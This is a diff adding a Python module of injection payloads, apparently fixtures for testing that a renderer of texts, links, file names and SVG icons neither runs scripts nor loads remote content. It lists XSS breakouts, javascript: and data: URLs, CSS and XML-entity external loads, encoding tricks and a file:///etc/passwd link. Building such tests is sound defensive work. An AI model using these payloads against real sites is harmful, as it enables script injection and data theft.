@@ -1,0 +1,130 @@
+"""What an attacker may write where a text, a colour, a link, a file or an icon is asked for.
+
+In each payload `FIRE` stands for an address that only a script that runs asks for, and `LOAD` for one that is asked for
+where something is loaded from elsewhere.
+"""
+
+SCRIPT = "(new Image).src='FIRE'"
+SCRIPT_BARE = "fetch(`FIRE`)"
+
+TEXTS = [
+    f"<script>{SCRIPT}</script>",
+    f"</title><script>{SCRIPT}</script>",
+    f"</text><script>{SCRIPT}</script><text>",
+    f"</style><script>{SCRIPT}</script>",
+    f"</svg><script>{SCRIPT}</script>",
+    f"]]><script>{SCRIPT}</script>",
+    f"--><script>{SCRIPT}</script>",
+    f"?><script>{SCRIPT}</script>",
+    f"\"><script>{SCRIPT_BARE}</script>",
+    f"'><script>{SCRIPT_BARE}</script>",
+    f"\" onload=\"{SCRIPT_BARE}",
+    f"' onload='{SCRIPT_BARE}",
+    f"\" onload={SCRIPT_BARE} x=\"",
+    f"x\" onfocus=\"{SCRIPT_BARE}\" autofocus tabindex=\"1",
+    f"<img src=x onerror={SCRIPT_BARE}>",
+    f"<svg onload={SCRIPT_BARE}>",
+    f"<svg/onload={SCRIPT_BARE}//",
+    f"<animate onbegin={SCRIPT_BARE} attributeName=x dur=1s>",
+    f"<set attributeName=href to=javascript:{SCRIPT_BARE}>",
+    f"<foreignObject><iframe srcdoc=\"<script>{SCRIPT_BARE}</script>\"></foreignObject>",
+    f"<a href=\"javascript:{SCRIPT_BARE}\">x</a>",
+    f"javascript:{SCRIPT_BARE}",
+    f"&lt;script&gt;{SCRIPT}&lt;/script&gt;",
+    f"&#60;script&#62;{SCRIPT}&#60;/script&#62;",
+    f"&quot; onload=&quot;{SCRIPT_BARE}",
+    f"&#34; onload=&#34;{SCRIPT_BARE}",
+    "&xxe;", "%xxe;", "&#0;", "&#x1F;", "&",
+    f"<!DOCTYPE svg [<!ENTITY x SYSTEM \"LOAD\">]>&x;",
+    f"<?xml-stylesheet href=\"LOAD\"?>",
+    f"<style>@import url(LOAD);</style>",
+    f"<image href=\"LOAD\"/><use href=\"LOAD#a\"/>",
+    f"<img src=LOAD>", f"<link rel=stylesheet href=LOAD>",
+    "url(LOAD)", "url(\"LOAD\")", "url(LOAD#a)", "red;background:url(LOAD)", "red}*{background:url(LOAD)",
+    "x;@import 'LOAD';", "x'}@import url(LOAD);{'", "\\75rl(LOAD)", "u\\72l(LOAD)", "ur/**/l(LOAD)",
+    f"expression({SCRIPT_BARE})", f"red;-moz-binding:url(LOAD)",
+    "var(--x,url(LOAD))", "image-set('LOAD')", "x) , url(LOAD",
+    f"＜script＞{SCRIPT}＜/script＞", f"\u2028<script>{SCRIPT}</script>", f"\u202e<script>{SCRIPT}</script>",
+    f"<\u0000script>{SCRIPT}</script>", f"<scr\ufeffipt>{SCRIPT}</script>", f"+ADw-script+AD4-{SCRIPT}+ADw-/script+AD4-",
+    f"<script xmlns=\"http://www.w3.org/1999/xhtml\">{SCRIPT}</script>", f"<xml:script>{SCRIPT}</xml:script>",
+    f"{{{{constructor.constructor('{SCRIPT_BARE}')()}}}}", f"${{{SCRIPT_BARE}}}", f"`{SCRIPT_BARE}`", "\\\"><b>", "\ud7ff\ue000",
+    f"{{count}}<script>{SCRIPT}</script>|{{count}}<img src=x onerror={SCRIPT_BARE}>",
+    f"{{count}}\" onload=\"{SCRIPT_BARE}|over={{count}}' onload='{SCRIPT_BARE}",
+]
+
+LINKS = [
+    f"javascript:{SCRIPT_BARE}", f"JaVaScRiPt:{SCRIPT_BARE}", f" javascript:{SCRIPT_BARE}", f"java\tscript:{SCRIPT_BARE}",
+    f"java\nscript:{SCRIPT_BARE}", f"\x01javascript:{SCRIPT_BARE}", f"javascript&colon;{SCRIPT_BARE}",
+    f"&#106;avascript:{SCRIPT_BARE}", f"javascript%3A{SCRIPT_BARE}", f"\u200bjavascript:{SCRIPT_BARE}",
+    f"data:text/html,<script>{SCRIPT}</script>", f"data:image/svg+xml,<svg onload=\"{SCRIPT_BARE}\"/>",
+    f"vbscript:{SCRIPT_BARE}", f"view-source:javascript:{SCRIPT_BARE}", "blob:LOAD", "file:///etc/passwd", "about:blank",
+    f"http://a/\" onclick=\"{SCRIPT_BARE}", f"http://a/'><script>{SCRIPT}</script>", f"#\" onload=\"{SCRIPT_BARE}",
+    "//a/\\..\\b", "\\\\evil", "http:\\\\evil", "https://user:pass@a/", "http://a/ b", "//a", "?a=1&b=2", "a/b.html#c",
+    "mailto:a@example.org?subject=\"><b>", "http://[::1]/", "http://a/%0d%0aSet-Cookie:x",
+    f"feed:javascript:{SCRIPT_BARE}", f"jar:javascript:{SCRIPT_BARE}", f"mhtml:javascript:{SCRIPT_BARE}",
+]
+
+NAMES = [
+    "\"><img src=x onerror=BARE>.svg", "'><img src=x onerror=BARE>.svg", "<img src=x onerror=BARE>.svg",
+    "a&quot;onerror=BARE.svg", "x onerror=BARE.svg", "</figcaption><script>BARE<!--.svg", "javascript:BARE.svg",
+    "data:image.svg", "a?b#c.svg", "a%22onerror=BARE.svg", "\u202egvs.exe.svg", "${BARE}.svg", "../a.svg", "/a.svg",
+]
+NAMES = [name.replace("BARE", "fetch(`FIRE`)") for name in NAMES]
+
+SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="16" height="16"{}>{}</svg>'
+SQUARE = '<path d="M0 0h16v16H0Z"/>'
+XHTML = 'xmlns="http://www.w3.org/1999/xhtml"'
+
+ICONS = [
+    SVG.format("", f"<script>{SCRIPT}</script>{SQUARE}"),
+    SVG.format("", f"<script href=\"LOAD\"/>{SQUARE}"),
+    SVG.format(f' onload="{SCRIPT}"', SQUARE),
+    SVG.format("", f'<path d="M0 0h16v16H0Z" onclick="{SCRIPT}"/>'),
+    SVG.format("", f'<g onmouseover="{SCRIPT}">{SQUARE}</g>'),
+    SVG.format("", f'<foreignObject width="9" height="9"><body {XHTML} onload="{SCRIPT}"/></foreignObject>{SQUARE}'),
+    SVG.format("", f'<foreignObject><iframe {XHTML} src="LOAD"/></foreignObject>{SQUARE}'),
+    SVG.format("", f'<a href="javascript:{SCRIPT_BARE}">{SQUARE}</a>'),
+    SVG.format("", f'<a xlink:href="javascript:{SCRIPT_BARE}">{SQUARE}</a>'),
+    SVG.format("", f'<a>{SQUARE}<animate attributeName="href" values="javascript:{SCRIPT_BARE}"/></a>'),
+    SVG.format("", f'{SQUARE}<animate onbegin="{SCRIPT}" attributeName="x" dur="1s"/>'),
+    SVG.format("", f'{SQUARE}<set attributeName="onload" to="{SCRIPT}"/>'),
+    SVG.format("", f'<image href="LOAD" width="9" height="9"/>{SQUARE}'),
+    SVG.format("", f'<image xlink:href="LOAD" width="9" height="9"/>{SQUARE}'),
+    SVG.format("", f'<image href="data:image/svg+xml,&lt;svg onload=&quot;{SCRIPT_BARE}&quot;/&gt;" width="9" height="9"/>'),
+    SVG.format("", f'<use href="LOAD#a"/>{SQUARE}'),
+    SVG.format("", f'<use xlink:href="data:image/svg+xml;base64,PHN2Zy8+#a"/>{SQUARE}'),
+    SVG.format("", f'<feImage href="LOAD"/>{SQUARE}'),
+    SVG.format("", f'<filter id="f"><feImage href="LOAD"/></filter><path filter="url(#f)" d="M0 0h9v9Z"/>'),
+    SVG.format("", f'<path fill="url(LOAD#a)" d="M0 0h9v9Z"/>'),
+    SVG.format("", f'<path style="fill:url(LOAD#a)" d="M0 0h9v9Z"/>'),
+    SVG.format("", f'<path style="background:url(LOAD)" d="M0 0h9v9Z"/>'),
+    SVG.format("", f'<path clip-path="url(LOAD#a)" d="M0 0h9v9Z"/>'),
+    SVG.format("", f'<path mask="url(LOAD#a)" d="M0 0h9v9Z"/>'),
+    SVG.format("", f'<path marker-end="url(LOAD#a)" d="M0 0h9v9Z"/>'),
+    SVG.format("", f'<path cursor="url(LOAD)" d="M0 0h9v9Z"/>'),
+    SVG.format("", f'<style>@import url(LOAD);</style>{SQUARE}'),
+    SVG.format("", f'<style>path{{fill:url(LOAD#a)}}</style>{SQUARE}'),
+    SVG.format("", f'<style>@font-face{{font-family:a;src:url(LOAD)}}</style>{SQUARE}'),
+    SVG.format("", f'<style>*{{background:url(LOAD)}}</style>{SQUARE}'),
+    SVG.format("", f'<link {XHTML} rel="stylesheet" href="LOAD"/>{SQUARE}'),
+    SVG.format("", f'<style>&lt;/style&gt;&lt;script&gt;{SCRIPT}&lt;/script&gt;</style>{SQUARE}'),
+    SVG.format("", f'<title>&lt;/title&gt;&lt;script&gt;{SCRIPT}&lt;/script&gt;</title>{SQUARE}'),
+    SVG.format("", f'<desc>&lt;img src=x onerror="{SCRIPT}"&gt;</desc>{SQUARE}'),
+    SVG.format("", f'<g id="&quot; onload=&quot;{SCRIPT_BARE}">{SQUARE}</g>'),
+    SVG.format("", f'<g class="&quot;&gt;&lt;script&gt;{SCRIPT_BARE}&lt;/script&gt;">{SQUARE}</g>'),
+    SVG.format("", f'<path fill="&quot;&gt;&lt;script&gt;{SCRIPT_BARE}&lt;/script&gt;" d="M0 0h9v9Z"/>'),
+    SVG.format("", f'<path d="M0 0h9v9Z&quot; onload=&quot;{SCRIPT_BARE}"/>'),
+    SVG.format("", f'<![CDATA[<script>{SCRIPT}</script>]]>{SQUARE}'),
+    SVG.format("", f'<!-- --><!--><script>{SCRIPT}</script>-->{SQUARE}'),
+    SVG.format("", f'<text onload="{SCRIPT}">a</text>{SQUARE}'),
+    SVG.format("", f'<handler type="text/javascript">{SCRIPT}</handler>{SQUARE}'),
+    SVG.format("", f'<html:script xmlns:html="http://www.w3.org/1999/xhtml">{SCRIPT}</html:script>{SQUARE}'),
+    SVG.format("", f'<audio {XHTML} src="x" onerror="{SCRIPT}"/>{SQUARE}'),
+    f'<?xml-stylesheet href="LOAD"?>{SVG.format("", SQUARE)}',
+    f'<!DOCTYPE svg [<!ENTITY x SYSTEM "LOAD">]>{SVG.format("", "&x;" + SQUARE)}',
+    f'<!DOCTYPE svg SYSTEM "LOAD">{SVG.format("", SQUARE)}',
+    f'<!DOCTYPE svg [<!ENTITY x "&lt;script>{SCRIPT}&lt;/script>">]>{SVG.format("", "&x;" + SQUARE)}',
+    f'<html><script>{SCRIPT}</script></html>',
+    SVG.format(' xml:base="LOAD"', SQUARE),
+    SVG.format(f' style="background:url(LOAD)"', SQUARE),
+]
